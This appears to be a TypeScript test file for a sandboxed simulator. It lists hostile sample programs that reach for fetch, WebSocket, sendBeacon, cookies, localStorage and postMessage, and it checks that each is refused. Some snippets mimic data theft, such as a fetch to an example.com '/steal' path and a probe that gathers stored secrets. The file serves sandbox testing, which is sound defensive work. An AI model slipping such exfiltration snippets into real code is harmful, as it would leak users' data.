import { CANARY, PARAMS, PASS, withStep, type HostileCase } from './HostileCase.ts';

const forbidden = (name: string) => ({ code: 'forbidden', message: new RegExp(`${name} is not available to simulator programs`) }) as const;

/** Programs that reach for the network, storage, the DOM or the page: each refused with a clear error. */
export const REACH_CASES: HostileCase[] = [
  { id: 'fetch', what: 'fetch a URL', source: withStep('fetch("http://example.com/steal");\n' + PASS), phase: 'step', expect: forbidden('fetch') },
  {
    id: 'xhr', what: 'XMLHttpRequest', source: withStep('const x = new XMLHttpRequest();\nx.open("GET", "http://example.com", false);\nx.send();\n' + PASS),
    phase: 'step', expect: forbidden('XMLHttpRequest'),
  },
  { id: 'websocket', what: 'open a WebSocket', source: withStep('new WebSocket("ws://example.com");\n' + PASS), phase: 'step', expect: forbidden('WebSocket') },
  { id: 'eventsource', what: 'open an EventSource', source: withStep('new EventSource("http://example.com/events");\n' + PASS), phase: 'step', expect: forbidden('EventSource') },
  { id: 'importscripts', what: 'importScripts', source: withStep('importScripts("http://example.com/x.js");\n' + PASS), phase: 'step', expect: forbidden('importScripts') },
  {
    id: 'dynamic-import', what: 'import() in step', source: withStep('return import("http://example.com/x.js");'),
    phase: 'load', expect: { code: 'forbidden', message: /import\(\) is not available to simulator programs.*line 3, column 8/ },
  },
  { id: 'nested-worker', what: 'start a nested Worker', source: withStep('new Worker("data:text/javascript,postMessage(1)");\n' + PASS), phase: 'step', expect: forbidden('Worker') },
  { id: 'send-beacon', what: 'navigator.sendBeacon', source: withStep('navigator.sendBeacon("http://example.com", "data");\n' + PASS), phase: 'step', expect: forbidden('navigator') },
  {
    id: 'local-storage', what: 'read localStorage', source: withStep('return { S: localStorage.getItem("gsim.canary").length, I: 0, R: 0 };'),
    phase: 'step', expect: forbidden('localStorage'),
  },
  { id: 'indexeddb', what: 'open IndexedDB', source: withStep('indexedDB.open("gsim-canary");\n' + PASS), phase: 'step', expect: forbidden('indexedDB') },
  { id: 'cookie', what: 'read document.cookie', source: withStep('throw new Error(document.cookie);'), phase: 'step', expect: forbidden('document') },
  { id: 'post-message', what: 'postMessage to the parent', source: withStep('postMessage({ stolen: "x" }, "*");\n' + PASS), phase: 'step', expect: forbidden('postMessage') },
  { id: 'close', what: 'close() its own worker', source: withStep('close();\n' + PASS), phase: 'step', expect: forbidden('close') },
  {
    id: 'timers', what: 'schedule work with setTimeout at top level', source: `${PARAMS}setTimeout(() => { for (;;) {} }, 0);\nfunction step(state) { ${PASS} }\n`,
    phase: 'load', expect: forbidden('setTimeout'),
  },
  {
    id: 'canary-in-message', what: `tries every storage and reports what it found in its error (must not be ${CANARY})`,
    source: withStep(`const found = [];
const g = (function () { try { return Function('return this')(); } catch (e) { return {}; } })();
for (const read of [() => g.localStorage.getItem('gsim.canary'), () => g.document.cookie, () => g.sessionStorage.getItem('gsim.canary')]) {
  try { found.push(String(read())); } catch (e) { found.push('denied'); }
}
throw new Error('found: ' + found.join(', '));`),
    phase: 'step', expect: { code: 'runtime', message: /found: denied, denied, denied/ },
  },
];
